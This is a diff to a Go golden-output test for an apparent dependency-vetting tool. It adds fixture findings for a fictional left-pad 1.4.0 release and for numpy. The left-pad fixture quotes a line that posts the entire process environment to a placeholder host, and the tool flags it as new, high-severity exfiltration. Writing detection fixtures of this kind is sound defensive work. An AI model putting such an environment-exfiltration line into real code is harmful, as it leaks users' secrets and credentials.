@@ -33,11 +33,33 @@ func small() report.Report {
 	for _, v := range r.Outcome.Versions {
 		if slices.Contains([]string{"django", "left-pad", "libtransitive", "celery", "kombu", "vine", "deepdep", "oldtool", "numpy"}, v.Version.Package.Name) {
 			v.Reasons = v.Reasons[:min(len(v.Reasons), 7)]
+			switch v.Version.Package.Name {
+			case "left-pad":
+				v = behaving(v)
+			case "numpy":
+				v.Capabilities, v.ComparedWith = []verdict.Capability{{Word: "native", Place: verdict.Place{Archive: "numpy-1.26.4.whl", Path: "numpy/core/_multiarray.so"}}}, "1.26.3"
+			}
 			vs = append(vs, v)
 		}
 	}
 	r.Outcome.Versions = vs
 	return r
+}
+
+// behaving adds to a version what its code does and the version before did not.
+func behaving(v verdict.VersionOutcome) verdict.VersionOutcome {
+	at := verdict.Place{Archive: "left_pad-1.4.0-py3-none-any.whl", Path: "left_pad/__init__.py", Line: 3}
+	v.Reasons = append([]verdict.Reason{{
+		Rule: "suspicious-behaviour", Class: finding.Behaviour, Effect: verdict.EffectHold, Severity: finding.High, Source: "environment-sent", Finding: "f0e1d2c3b4a59687",
+		Text:   "left_pad/__init__.py:3: sends the whole environment to a host; not in 1.3.0, which is admitted",
+		Remedy: "Look at what changed: gatehouse diff OLD NEW.", File: reqs, Line: 5, Seen: at,
+	}}, v.Reasons...)
+	v.ComparedWith, v.Until = "1.3.0", nil
+	v.Capabilities = []verdict.Capability{
+		{Word: "env", Place: at, Text: "requests.post(HOST, json=dict(os.environ))", New: true},
+		{Word: "net", Place: verdict.Place{Archive: at.Archive, Path: "left_pad/http.py", Line: 12}, Text: "urlopen(url)"},
+	}
+	return v
 }
 
 func TestFormatsGolden(t *testing.T) {
